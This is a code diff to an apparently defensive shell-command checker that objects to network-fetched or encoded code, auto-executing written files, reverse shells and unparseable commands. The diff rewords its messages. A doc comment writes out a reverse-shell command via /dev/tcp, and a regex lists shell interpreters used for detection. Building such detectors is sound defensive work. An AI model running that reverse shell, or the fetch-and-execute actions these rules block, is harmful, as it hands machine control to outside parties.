@@ -22,11 +22,11 @@ function isForeign(stream: Stream | undefined): stream is Extract<Stream, { kind
 
 function sayForeign(stream: Extract<Stream, { kind: 'remote' | 'decoded' }>, part: string): Objection {
   return stream.kind === 'remote'
-    ? objection(part, 'It runs code that comes straight from the network, unseen.', way)
+    ? objection(part, 'It runs code straight from the network that nobody has read.', way)
     : objection(
         part,
         'It runs code that is hidden in an encoding.',
-        'Decode it to a file, read it, then write out the commands that are meant.',
+        'Decode it to a file, read it, then write out the intended commands.',
       );
 }
 
@@ -79,7 +79,7 @@ export const printedCodeRule: LineRule = {
     const texts = [...hidden.flatMap(({ text }) => fragmentsOf(text)), ...fed.flatMap((one) => textsBefore(one, reading.invocations))]; // prettier-ignore
     for (const text of new Set(texts.filter((one) => /\w\s+\S/.test(one)).slice(0, 40))) {
       const refused = judge(readCommand(text, { cwd: view.roots[0] ?? '/', home: view.home }), view);
-      if (refused !== undefined) return objection(text.trim().slice(0, 160), `A shell runs what is printed here: ${refused.why}`, refused.instead); // prettier-ignore
+      if (refused !== undefined) return objection(text.trim().slice(0, 160), `A shell runs the text printed here: ${refused.why}`, refused.instead); // prettier-ignore
     }
     return undefined;
   },
@@ -105,7 +105,7 @@ const runsText = /^(?:eval|source|\.|(?:ba|z|da|k|fi|a)?sh)(?:\s|$)/;
 
 const shellWay = 'Nothing in a project needs a shell for the network; ask the person.';
 
-const shellWhy = 'It hands a shell to whoever is at the other end of the network.';
+const shellWhy = 'It gives a shell to another machine on the network.';
 
 /** `bash -i >& /dev/tcp/host/port 0>&1`. */
 function redirectedShell(invocation: Invocation): Objection | undefined {
@@ -170,7 +170,11 @@ function planting(
   const downloads = invocation.effects?.some(({ kind }) => kind === 'fetch') === true;
   const foreign = content === undefined ? from === undefined && downloads : isForeign(content);
   return foreign
-    ? objection(written(invocation), 'It puts text from the network, unseen, where it takes effect by itself.', way)
+    ? objection(
+        written(invocation),
+        'It writes unread text from the network to a file that takes effect automatically.',
+        way,
+      )
     : undefined;
 }
 
@@ -201,12 +205,11 @@ export const unreadableRule: LineRule = {
   checkLine(reading) {
     const cut = reading.unread.find((entry) => entry.why === 'too-long' || entry.why === 'too-deep');
     if (cut === undefined) return undefined;
-    const why =
-      cut.why === 'too-long' ? 'It is too long to be read to its end.' : 'It is nested too deeply to be read.';
+    const why = cut.why === 'too-long' ? 'It is too long to be fully parsed.' : 'It is nested too deeply to be parsed.';
     return objection(
       `${reading.source.slice(0, 80)}…`,
       why,
-      'Split it into several commands, or write a script file that can be looked at.',
+      'Split it into several commands, or write a script file that can be reviewed.',
     );
   },
 };
